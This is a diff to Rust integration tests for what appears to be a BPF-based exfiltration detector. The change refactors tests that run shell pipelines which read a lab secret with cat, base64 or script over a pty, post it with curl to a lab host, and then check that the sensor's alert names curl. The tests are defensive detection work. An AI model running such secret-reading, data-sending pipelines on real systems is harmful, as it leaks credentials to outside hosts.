@@ -3,12 +3,13 @@
 
 use std::ffi::CString;
 use std::io;
+use std::net::SocketAddr;
 use std::os::unix::ffi::OsStrExt;
 use std::time::Duration;
 
 use anyhow::{Context, Result};
 use integration_tests::host_tools::{self, quoted};
-use integration_tests::{actor_exe, alert, Lab, ALERT_TIMEOUT};
+use integration_tests::{actor_exe, alert, Lab, Sensor, ALERT_TIMEOUT};
 use serde_json::Value;
 
 /// How long the unix-socket receiver waits before accepting: the sender, started meanwhile,
@@ -31,25 +32,24 @@ fn assert_came_through(alert: &Value, lab: &Lab, origin: Option<u32>, kind: &str
     }
 }
 
+/// Runs `head | curl --data-binary @- DEST` in a shell and returns curl's alert.
+fn piped_into_curl(sensor: &Sensor, head: &str, dest: SocketAddr) -> Result<Value> {
+    let curl = format!("curl -sS -o /dev/null --max-time 10 --data-binary @- {}", host_tools::url(dest));
+    host_tools::sh(&format!("{head} | {curl}"))?;
+    let by_curl = |line: &Value| {
+        alert::is_exfiltration_to(dest)(line)
+            && host_tools::is_program(alert::process_executable(line), "curl")
+    };
+    sensor.expect(by_curl, ALERT_TIMEOUT)
+}
+
 #[test]
 #[ignore = "needs root and BPF: run with cargo xtask test"]
 fn shell_pipeline_from_cat_through_base64_to_curl_is_reported_on_curl() -> Result<()> {
     let lab = Lab::new(actor_exe!())?;
     let sensor = lab.sensor()?;
     let dest = lab.remote().tcp_v4();
-    let script = format!(
-        "cat {} | base64 | curl -sS -o /dev/null --max-time 10 --data-binary @- {}",
-        quoted(lab.secret()),
-        host_tools::url(dest)
-    );
-
-    host_tools::sh(&script)?;
-
-    let by_curl = |line: &Value| {
-        alert::is_exfiltration_to(dest)(line)
-            && host_tools::is_program(alert::process_executable(line), "curl")
-    };
-    let alert = sensor.expect(by_curl, ALERT_TIMEOUT)?;
+    let alert = piped_into_curl(&sensor, &format!("cat {} | base64", quoted(lab.secret())), dest)?;
     assert_came_through(&alert, &lab, None, "pipe");
     assert!(host_tools::is_program(alert::origin_executable(&alert), "cat"), "cat read it: {alert:#}");
     let args = alert.pointer("/vigie/origin/args").and_then(Value::as_array);
@@ -109,19 +109,8 @@ fn secret_shown_in_a_pty_taints_the_master_side_reader() -> Result<()> {
     let dest = lab.remote().tcp_v4();
     // `cat` writes into the pty's slave side; `script` reads the master side (as an SSH server
     // or a reverse shell would) and hands it on through a pipe to `curl`.
-    let script = format!(
-        "script -qfc 'cat {}' /dev/null < /dev/null | curl -sS -o /dev/null --max-time 10 --data-binary @- {}",
-        quoted(lab.secret()),
-        host_tools::url(dest)
-    );
-
-    host_tools::sh(&script)?;
-
-    let by_curl = |line: &Value| {
-        alert::is_exfiltration_to(dest)(line)
-            && host_tools::is_program(alert::process_executable(line), "curl")
-    };
-    let alert = sensor.expect(by_curl, ALERT_TIMEOUT)?;
+    let shown = format!("script -qfc 'cat {}' /dev/null < /dev/null", quoted(lab.secret()));
+    let alert = piped_into_curl(&sensor, &shown, dest)?;
     assert!(host_tools::is_program(alert::origin_executable(&alert), "cat"), "cat read it: {alert:#}");
     let script_read = sensor.lines_matching(|line| {
         alert::via_kind(line) == Some("pty")
